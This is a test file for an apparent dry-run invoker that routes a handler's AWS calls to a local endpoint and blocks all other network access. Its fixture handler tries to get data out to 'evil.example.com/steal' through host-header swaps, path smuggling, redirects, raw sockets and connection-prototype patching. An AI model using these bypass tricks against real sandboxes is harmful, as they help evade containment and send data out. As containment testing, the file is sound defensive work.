// What a local service in AWS's place gets, and what nobody else gets through it.
import { createServer } from "node:net";
import type { AddressInfo } from "node:net";
import { afterEach, beforeEach, describe, expect, it } from "vitest";
import { createEvent } from "../../../src/event/create/create-event.ts";
import type { Invocation } from "../../../src/invocation.ts";
import { localInvoker } from "../../../src/runtime/invoker/local-invoker.ts";
import { handlerFile } from "../../helpers/handlers.ts";
import { answering, signatureOf } from "../../helpers/http-server.ts";
import type { HttpServer } from "../../helpers/http-server.ts";

const HOST = "dynamodb.eu-west-1.amazonaws.com";
const file = handlerFile(`
  import dns from "node:dns";
  import http from "node:http";
  import https from "node:https";
  import net from "node:net";

  const headers = {
    "x-amz-target": "DynamoDB_20120810.GetItem",
    "content-type": "application/x-amz-json-1.0",
    authorization: "AWS4-HMAC-SHA256 Credential=AKIAREAL/20260101/eu-west-1/dynamodb/aws4_request, SignedHeaders=host, Signature=00",
    "x-amz-security-token": "real-token",
  };
  const ask = (client, options) => new Promise((resolve, reject) => {
    client.request({ method: "POST", ...options, headers: { ...headers, ...options.headers } }, async (response) => {
      let text = "";
      for await (const part of response) text += part;
      resolve([response.statusCode, text]);
    }).on("error", reject).end('{"TableName":"users"}');
  });
  const connected = (socket) => new Promise((resolve, reject) => {
    socket.once("error", reject).once("connect", () => resolve(socket.remoteAddress));
  });
  const WAYS = {
    plain: () => ask(https, { host: "${HOST}", path: "/?x=1" }),
    fetch: async () => (await fetch("https://${HOST}/", { method: "POST", headers, body: "{}", redirect: "follow" })).status,
    otherHost: (url) => ask(http, { host: "evil.example.com", headers: { host: new URL(url).host } }),
    absolute: () => ask(http, { host: "evil.example.com", path: "http://evil.example.com/steal" }),
    twoSlashes: () => ask(https, { host: "${HOST}", path: "//evil.example.com/steal" }),
    trailer: () => ask(http, { host: "${HOST}", headers: { trailer: "x-a", "transfer-encoding": "chunked" } }),
    upgrade: () => ask(https, { host: "${HOST}", headers: { connection: "upgrade", upgrade: "websocket" } }),
    otherService: () => ask(https, { host: "${HOST}", headers: { authorization: headers.authorization.replace("dynamodb", "__proto__") } }),
    s3: () => ask(https, { host: "pictures.s3.eu-west-1.amazonaws.com", path: "/a%20b/c.txt?x=1", headers: { authorization: headers.authorization.replace("dynamodb", "s3"), "x-amz-target": [] } }),
    // While the request to the service is on its way, code of the handler's runs.
    meanwhile: async (url) => {
      const { port } = new URL(url);
      let asked = 0;
      const attempts = [];
      const { createConnection } = http.Agent.prototype;
      http.Agent.prototype.createConnection = function (...given) {
        if (String(given[0].port) === port) {
          const changing = { port: Number(port), get host() { return asked++ === 0 ? "127.0.0.1" : "198.51.100.9"; } };
          const lookup = (_name, _options, done) => done(null, "198.51.100.9", 4);
          const tried = [
            connected(net.connect(80, "198.51.100.9")),
            connected(new net.Socket().connect(80, "198.51.100.9")),
            connected(net.connect(changing)),
            connected(net.connect({ host: "127.0.0.1", port, lookup })),
            dns.promises.lookup("evil.example.com"),
          ];
          attempts.push(...tried.map((attempt) => attempt.catch(({ code }) => code)));
        }
        return createConnection.apply(this, given);
      };
      await ask(https, { host: "${HOST}" });
      return Promise.all(attempts);
    },
    directly: (url) => ask(http, { host: "127.0.0.1", port: new URL(url).port, headers: { authorization: [] , "x-amz-target": [] } }),
  };
  export const handler = ({ way, url }) => WAYS[way](url);`);

let server: HttpServer;

beforeEach(async () => {
  server = await answering({});
});
afterEach(() => server.close());

async function run(way: string, url: string, services = ["dynamodb", "s3"]): Promise<Invocation> {
  const endpoints = Object.fromEntries(services.map((service) => [service, url]));
  const invoke = localInvoker({ file, env: {}, capture: { endpoints }, limitMs: 8_000 });
  return invoke({ ...createEvent({ seed: "endpoint" }), way, url });
}

it("a call is signed anew with made-up credentials, and has its address", async () => {
  await server.close();
  server = await answering({ body: '{"Item":{}}' });
  const { outcome, awsCalls } = await run("plain", `${server.url}/base/`);
  expect(outcome).toMatchObject({ payload: [200, '{"Item":{}}'] });
  const [request] = server.requests;
  expect(request).toMatchObject({
    method: "POST",
    url: "/base/?x=1",
    body: '{"TableName":"users"}',
  });
  expect(request && signatureOf(request)).toEqual({
    key: "AKIADRYRUNDRYRUNDRYR",
    region: "eu-west-1",
    service: "dynamodb",
  });
  expect(request?.headers["host"]).toBe(new URL(server.url).host);
  expect(JSON.stringify(request)).not.toContain("real-token");
  expect(awsCalls).toMatchObject([
    {
      service: "dynamodb",
      operation: "GetItem",
      result: "live",
      status: 200,
      parameters: { TableName: "users" },
    },
  ]);
});

it("a request with trailers is one of a known length there", async () => {
  const { outcome } = await run("trailer", server.url);
  expect(outcome).toMatchObject({ payload: [200, expect.any(String)] });
  expect(server.requests[0]?.headers).not.toHaveProperty("trailer");
});

it("a bucket in the name of the host goes into the path", async () => {
  await run("s3", server.url);
  expect(server.requests.map(({ url }) => url)).toEqual(["/pictures/a%20b/c.txt?x=1"]);
});

describe("nobody else is reached by", () => {
  it.each<[string, unknown]>([
    ["otherHost", [200, ""]],
    ["absolute", [200, ""]],
    ["twoSlashes", [200, ""]],
    ["upgrade", [200, ""]],
    // The request is passed on where no code of the handler's runs.
    ["meanwhile", []],
  ])("%s", async (way, payload) => {
    const { outcome } = await run(way, server.url);
    expect(outcome).toMatchObject({ kind: "returned", payload });
    expect(server.requests.length).toBe(1);
  });

  it("a service that nobody named an endpoint for", async () => {
    await run("otherService", server.url);
    expect(server.requests).toEqual([]);
  });

  it("the handler itself, but with a call of that service", async () => {
    const { awsCalls } = await run("directly", server.url);
    expect(awsCalls).toMatchObject([{ service: "http", result: "refused" }]);
    expect(server.requests).toEqual([]);
  });

  it.each([301, 307])("an answer that leads to somebody else (%s)", async (status) => {
    await server.close();
    server = await answering({ status, headers: { location: "https://evil.example.com/steal" } });
    const { outcome, awsCalls } = await run("fetch", server.url);
    expect(outcome.kind).toBe("handler-error");
    expect(awsCalls.map(({ service, result, status: told }) => [service, result, told])).toEqual([
      ["dynamodb", "live", status],
      ["http", "refused", undefined],
    ]);
  });
});

describe("a service that does not answer is the dry run's affair", () => {
  it.each([
    ["says nothing", () => undefined, /^no response|no response within 3000 ms/],
    [
      "breaks off",
      (socket: { destroy: () => void }) => socket.destroy(),
      /socket hang up|ECONNRESET/,
    ],
  ])("when it %s", async (_what, onConnection, reason) => {
    const silent = createServer(onConnection).listen(0, "127.0.0.1");
    await new Promise((resolve) => silent.once("listening", resolve));
    const url = `http://127.0.0.1:${(silent.address() as AddressInfo).port}`;
    const { outcome, awsCalls } = await run("plain", url);
    silent.close();
    expect(outcome).toMatchObject({ kind: "handler-error", errorType: "BlockedByDryRun" });
    expect((outcome as { errorMessage: string }).errorMessage).toMatch(reason);
    expect(awsCalls).toMatchObject([{ service: "dynamodb", result: "refused", endpoint: url }]);
    expect(awsCalls[0]?.error).toBeUndefined();
  });
});
